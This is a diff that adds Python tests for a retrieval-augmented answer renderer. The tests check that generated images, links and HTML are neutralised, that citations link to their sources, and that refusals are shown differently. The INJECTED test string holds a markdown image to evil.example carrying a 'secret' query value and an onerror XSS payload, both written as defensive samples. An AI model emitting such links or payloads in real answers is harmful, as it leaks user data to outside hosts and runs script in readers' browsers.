@@ -1,0 +1,42 @@
+from rag.models import Answer, Citation, Passage
+from ui.render import answer_html, defang, draft_html, sources_html
+
+INJECTED = ("GPT-4o is fast ![pixel](http://evil.example/leak.png?q=secret) [1]. "
+            "See [details](https://evil.example/more) or www.evil.example and <img src=x onerror=alert(1)> [2].")
+
+
+def _answer(text: str, refused: bool = False) -> Answer:
+    citations = [Citation(n=n, doc_id=f"d{n}", title=f"Paper <{n}>", source="s.txt", text="GPT-4o is fast.",
+                          start=0, end=15, score=0.1, highlights=[(0, 6)]) for n in (1, 2)]
+    return Answer(question="q", text=text, citations=[] if refused else citations, refused=refused)
+
+
+def test_generated_images_links_and_html_are_inert():
+    for rendered in (answer_html(_answer(INJECTED)), draft_html(INJECTED)):
+        assert "<img" not in rendered
+        assert "href=\"http" not in rendered and "href='http" not in rendered
+        assert "](http" not in rendered and "http://" not in rendered and "https://" not in rendered
+        assert "evil.example" in rendered  # shown as text, so the reader sees what was removed
+        assert "&lt;img src=x onerror=alert(1)&gt;" in rendered
+
+
+def test_markers_become_links_to_their_source_cards():
+    rendered = answer_html(_answer("Fast [1]. Cheap [2]."))
+    assert '<a class="rag-cite" href="#rag-src-1" title="Paper &lt;1&gt;">[1]</a>' in rendered
+    panel = sources_html(_answer("Fast [1]. Cheap [2]."), {"d1": "GPT-4o is fast. More text."})
+    assert "id='rag-src-1'" in panel and "id='rag-src-2'" in panel
+    assert "<mark>GPT-4o</mark>" in panel and "Paper &lt;1&gt;" in panel
+
+
+def test_refusal_looks_different_and_shows_what_came_closest():
+    answer = _answer("The corpus does not contain an answer to this question.", refused=True)
+    answer.closest = [Passage(doc_id="d9", title="Near miss", source="s.txt", text="Something close.",
+                              start=0, end=16, similarity=0.3)]
+    rendered = answer_html(answer)
+    assert "rag-refusal" in rendered and "Not in the corpus" in rendered and "Near miss" in rendered
+    assert "Closest passages" in sources_html(answer, {})
+
+
+def test_defang_names_the_host_it_removed():
+    assert defang("![a](http://x.test/p.png)") == "[image from x.test removed]"
+    assert defang("[a](https://y.test/z)") == "a (link to y.test removed)"
